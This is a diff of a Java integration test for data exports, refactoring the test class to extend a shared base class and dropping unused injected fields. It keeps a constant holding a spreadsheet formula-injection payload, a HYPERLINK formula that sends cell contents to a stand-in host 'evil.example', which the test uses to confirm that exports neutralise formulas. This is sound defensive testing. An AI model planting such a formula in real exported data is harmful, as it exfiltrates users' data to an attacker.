@@ -12,6 +12,7 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 
 import az.asan.mektub.IntegrationTest;
+import az.asan.mektub.IntegrationTestBase;
 import az.asan.mektub.TestCampaign;
 import az.asan.mektub.TestLetters;
 import az.asan.mektub.TestLetters.Spec;
@@ -23,9 +24,6 @@ import az.asan.mektub.web.Visitor;
 import az.asan.mektub.web.Visitor.Page;
 
 import org.springframework.beans.factory.annotation.Autowired;
-import org.springframework.jdbc.core.simple.JdbcClient;
-import org.springframework.security.core.userdetails.UserDetailsService;
-import org.springframework.test.web.servlet.MockMvc;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -35,18 +33,9 @@ import static org.assertj.core.api.Assertions.assertThat;
  * no cell that a spreadsheet would run as a formula.
  */
 @IntegrationTest
-class ExportsIntegrationTest {
+class ExportsIntegrationTest extends IntegrationTestBase {
 
 	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")";
-
-	@Autowired
-	MockMvc mvc;
-
-	@Autowired
-	JdbcClient jdbc;
-
-	@Autowired
-	UserDetailsService users;
 
 	@Autowired
 	AccountManagement accounts;
